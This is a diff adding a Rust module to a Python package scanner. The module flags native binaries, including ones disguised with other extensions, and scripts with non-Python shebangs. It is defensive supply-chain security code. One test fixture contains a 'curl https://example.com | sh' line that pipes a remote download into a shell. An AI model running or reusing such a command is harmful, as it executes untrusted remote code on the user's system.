@@ -0,0 +1,290 @@
+//! Detection of native executables and scripts in distributions.
+//!
+//! Pure Python packages have no reason to ship compiled code, so ELF, PE and Mach-O files are
+//! reported with their format, architecture, and a hash of the shared libraries they reference,
+//! which groups builds of the same payload. Binaries with the extension of a native module or
+//! library are common in legitimate wheels and carry no weight, while ones disguised with another
+//! extension do. Wheels that claim to be pure Python but contain native modules are checked
+//! separately, see [`crate::scanner`]'s checks of wheels.
+//!
+//! Scripts with a shebang for anything but Python are reported too, unless they're in a directory
+//! where scripts are expected.
+
+use std::{collections::BTreeSet, path::Path};
+
+use sha2::{Digest, Sha256};
+
+use super::FindingKind;
+
+/// The weight of a binary with an extension that hides what it is, such as `.txt` or `.py`
+const DISGUISED_BINARY_WEIGHT: i64 = 5;
+
+/// The weight of a script with a non-Python shebang outside of the usual script directories
+const SHEBANG_WEIGHT: i64 = 2;
+
+/// Extensions of files that are expected to be native code
+pub const NATIVE_EXTENSIONS: &[&str] = &["so", "pyd", "dylib", "dll", "exe", "node"];
+
+/// Directories scripts are expected in
+const SCRIPT_DIRECTORIES: &[&str] = &["bin", "scripts", "tools", "ci", ".github"];
+
+/// Shared library names referenced by a binary are cut off after this many
+const MAX_IMPORTS: usize = 256;
+
+/// Shebangs are cut to this many bytes
+const MAX_SHEBANG_LENGTH: usize = 100;
+
+/// Whether the file at `path` has the extension of native code, including versioned shared
+/// libraries like `libssl.so.3`
+pub fn has_native_extension(path: &Path) -> bool {
+    let name = path
+        .file_name()
+        .map(|name| name.to_string_lossy().to_ascii_lowercase())
+        .unwrap_or_default();
+
+    name.contains(".so.")
+        || name
+            .rsplit_once('.')
+            .is_some_and(|(_, extension)| NATIVE_EXTENSIONS.contains(&extension))
+}
+
+/// Detect native binaries and unusual scripts in the file at `path` (relative to the archive
+/// root) with the given `contents`
+pub fn detect(path: &Path, contents: &[u8]) -> Vec<FindingKind> {
+    if let Some((format, arch)) = identify(contents) {
+        let weight = if has_native_extension(path) {
+            0
+        } else {
+            DISGUISED_BINARY_WEIGHT
+        };
+        return vec![FindingKind::NativeBinary {
+            format,
+            arch,
+            imports_hash: imports_hash(contents),
+            weight,
+        }];
+    }
+
+    unusual_shebang(path, contents)
+        .map(|shebang| FindingKind::UnusualShebang {
+            shebang,
+            weight: SHEBANG_WEIGHT,
+        })
+        .into_iter()
+        .collect()
+}
+
+fn u16_at(contents: &[u8], offset: usize, little_endian: bool) -> Option<u16> {
+    let bytes = contents.get(offset..offset + 2)?.try_into().ok()?;
+    Some(if little_endian {
+        u16::from_le_bytes(bytes)
+    } else {
+        u16::from_be_bytes(bytes)
+    })
+}
+
+fn u32_at(contents: &[u8], offset: usize, little_endian: bool) -> Option<u32> {
+    let bytes = contents.get(offset..offset + 4)?.try_into().ok()?;
+    Some(if little_endian {
+        u32::from_le_bytes(bytes)
+    } else {
+        u32::from_be_bytes(bytes)
+    })
+}
+
+/// The format and architecture of a native binary, or `None` if `contents` isn't one
+fn identify(contents: &[u8]) -> Option<(&'static str, &'static str)> {
+    if contents.starts_with(b"\x7fELF") {
+        let little_endian = contents.get(5) == Some(&1);
+        let arch = match u16_at(contents, 18, little_endian)? {
+            0x03 => "x86",
+            0x08 => "mips",
+            0x14 => "ppc",
+            0x15 => "ppc64",
+            0x16 => "s390",
+            0x28 => "arm",
+            0x3e => "x86_64",
+            0xb7 => "aarch64",
+            0xf3 => "riscv",
+            _ => "unknown",
+        };
+        return Some(("elf", arch));
+    }
+
+    if contents.starts_with(b"MZ") {
+        let header = usize::try_from(u32_at(contents, 0x3c, true)?).ok()?;
+        if contents.get(header..header + 4)? != b"PE\0\0" {
+            return None;
+        }
+        let arch = match u16_at(contents, header + 4, true)? {
+            0x014c => "x86",
+            0x01c0 | 0x01c4 => "arm",
+            0x8664 => "x86_64",
+            0xaa64 => "aarch64",
+            _ => "unknown",
+        };
+        return Some(("pe", arch));
+    }
+
+    let magic = u32_at(contents, 0, false)?;
+    let little_endian = match magic {
+        0xfeed_face | 0xfeed_facf => false,
+        0xcefa_edfe | 0xcffa_edfe => true,
+        // Java classes share the magic, but have a major version of at least 45 where universal
+        // binaries have their (few) architectures
+        0xcafe_babe if u32_at(contents, 4, false)? < 20 => return Some(("mach-o", "universal")),
+        _ => return None,
+    };
+    let arch = match u32_at(contents, 4, little_endian)? {
+        7 => "x86",
+        12 => "arm",
+        0x0100_0007 => "x86_64",
+        0x0100_000c => "aarch64",
+        _ => "unknown",
+    };
+    Some(("mach-o", arch))
+}
+
+/// Whether `name` looks like the name or path of a shared library
+fn is_library_name(name: &str) -> bool {
+    let lowercase = name.to_ascii_lowercase();
+    lowercase.ends_with(".dll")
+        || lowercase.ends_with(".dylib")
+        || lowercase.contains(".framework/")
+        || (lowercase.starts_with("lib")
+            && (lowercase.ends_with(".so") || lowercase.contains(".so.")))
+}
+
+/// The SHA-256 of the sorted names of the shared libraries a binary references, found among its
+/// NUL-terminated strings rather than by parsing its import tables. `None` if it references none.
+fn imports_hash(contents: &[u8]) -> Option<String> {
+    let imports = contents
+        .split(|byte| *byte == 0)
+        .filter(|string| (3..=256).contains(&string.len()))
+        .filter_map(|string| std::str::from_utf8(string).ok())
+        .filter(|string| string.bytes().all(|byte| byte.is_ascii_graphic()))
+        .filter(|string| is_library_name(string))
+        .map(|string| {
+            string
+                .rsplit('/')
+                .next()
+                .unwrap_or(string)
+                .to_ascii_lowercase()
+        })
+        .take(MAX_IMPORTS)
+        .collect::<BTreeSet<_>>();
+    if imports.is_empty() {
+        return None;
+    }
+
+    let joined = imports.into_iter().collect::<Vec<_>>().join(",");
+    Some(format!("{:x}", Sha256::digest(joined)))
+}
+
+/// The shebang of a script for anything but Python, outside of the top of the distribution and of
+/// the [`SCRIPT_DIRECTORIES`]
+fn unusual_shebang(path: &Path, contents: &[u8]) -> Option<String> {
+    let line = contents
+        .strip_prefix(b"#!")?
+        .split(|byte| *byte == b'\n')
+        .next()?;
+    let shebang = String::from_utf8_lossy(&line[..line.len().min(MAX_SHEBANG_LENGTH)])
+        .trim()
+        .to_owned();
+    if shebang.contains("python") {
+        return None;
+    }
+
+    // the root of an sdist is `name-version/`, so its files are two components deep
+    let components = path.iter().collect::<Vec<_>>();
+    let expected = components.len() <= 2
+        || components[..components.len() - 1].iter().any(|component| {
+            let component = component.to_string_lossy();
+            SCRIPT_DIRECTORIES.contains(&component.as_ref()) || component.ends_with(".data")
+        });
+
+    (!expected).then_some(shebang)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{detect, has_native_extension, DISGUISED_BINARY_WEIGHT};
+    use crate::analyzers::FindingKind;
+    use std::path::Path;
+
+    fn elf(machine: u16, strings: &[u8]) -> Vec<u8> {
+        let mut contents = b"\x7fELF\x02\x01\x01".to_vec();
+        contents.resize(18, 0);
+        contents.extend(machine.to_le_bytes());
+        contents.resize(64, 0);
+        contents.extend(strings);
+        contents
+    }
+
+    #[test]
+    fn detects_native_binaries() {
+        let module = elf(0x3e, b"\0libc.so.6\0libpython3.12.so.1.0\0PyInit_core\0");
+        let findings = detect(
+            Path::new("pkg/core.cpython-312-x86_64-linux-gnu.so"),
+            &module,
+        );
+        let [FindingKind::NativeBinary {
+            format,
+            arch,
+            imports_hash: Some(imports_hash),
+            weight,
+        }] = findings.as_slice()
+        else {
+            panic!("expected a native binary, got {findings:?}");
+        };
+        assert_eq!((*format, *arch, *weight), ("elf", "x86_64", 0));
+
+        // the same imports in another order hash the same
+        let rebuilt = elf(0x3e, b"\0PyInit_core\0libpython3.12.so.1.0\0libc.so.6\0");
+        assert!(matches!(
+            detect(Path::new("pkg/data.txt"), &rebuilt).as_slice(),
+            [FindingKind::NativeBinary { imports_hash: Some(hash), weight, .. }]
+                if hash == imports_hash && *weight == DISGUISED_BINARY_WEIGHT
+        ));
+
+        let mut pe = b"MZ".to_vec();
+        pe.resize(0x3c, 0);
+        pe.extend(64_u32.to_le_bytes());
+        pe.resize(64, 0);
+        pe.extend(b"PE\0\0\x64\x86");
+        assert!(matches!(
+            detect(Path::new("pkg/_speedups.pyd"), &pe).as_slice(),
+            [FindingKind::NativeBinary {
+                format: "pe",
+                arch: "x86_64",
+                imports_hash: None,
+                ..
+            }]
+        ));
+
+        let class = b"\xca\xfe\xba\xbe\0\0\0\x37";
+        assert!(detect(Path::new("pkg/Main.class"), class).is_empty());
+        assert!(detect(Path::new("pkg/readme.txt"), b"MZ is not a PE").is_empty());
+
+        assert!(has_native_extension(Path::new("pkg.libs/libgfortran.so.5")));
+        assert!(!has_native_extension(Path::new("pkg/solver.py")));
+    }
+
+    #[test]
+    fn detects_unusual_shebangs() {
+        let script = b"#!/bin/bash\ncurl https://example.com | sh\n";
+
+        assert!(matches!(
+            detect(Path::new("pkg-1.0/pkg/utils/update"), script).as_slice(),
+            [FindingKind::UnusualShebang { shebang, .. }] if shebang == "/bin/bash"
+        ));
+        assert!(detect(Path::new("pkg-1.0/configure"), script).is_empty());
+        assert!(detect(Path::new("pkg-1.0/scripts/release.sh"), script).is_empty());
+        assert!(detect(Path::new("pkg-1.0.data/scripts/tool"), script).is_empty());
+        assert!(detect(
+            Path::new("pkg-1.0/pkg/cli.py"),
+            b"#!/usr/bin/env python3\nimport sys\n"
+        )
+        .is_empty());
+    }
+}